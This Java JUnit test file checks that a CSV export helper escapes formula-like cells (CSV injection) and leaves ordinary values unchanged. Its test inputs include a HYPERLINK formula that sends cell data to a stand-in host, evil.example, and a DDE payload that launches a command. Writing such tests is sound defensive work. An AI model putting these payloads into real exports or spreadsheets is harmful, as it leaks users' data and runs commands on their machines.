package org.caseport.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.time.LocalDate;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTableTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "+1+1", "-2+3", "@SUM(A1:A9)",
        "\tcmd", "\r=1", "=cmd|' /C calc'!A0"})
    void textThatASpreadsheetWouldRunAsAFormulaIsMadeText(String text) {
        assertThat(CsvTable.cell(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Surveillance from 9am", "' quoted already", "1 + 1 = 2", "café = bistro", " =not first"})
    void otherTextIsWrittenAsItIs(String text) {
        assertThat(CsvTable.cell(text)).isEqualTo(text);
    }

    @Test
    void numbersDatesAndYesNoAreWrittenAsTheyAreEvenWhenNegative() {
        assertThat(CsvTable.cell(new BigDecimal("-12.50"))).isEqualTo("-12.50");
        assertThat(CsvTable.cell(new BigDecimal("1E+3"))).isEqualTo("1000");
        assertThat(CsvTable.cell(LocalDate.of(2026, 11, 3))).isEqualTo("2026-11-03");
        assertThat(CsvTable.cell(true)).isEqualTo("yes");
        assertThat(CsvTable.cell(null)).isEmpty();
    }
}
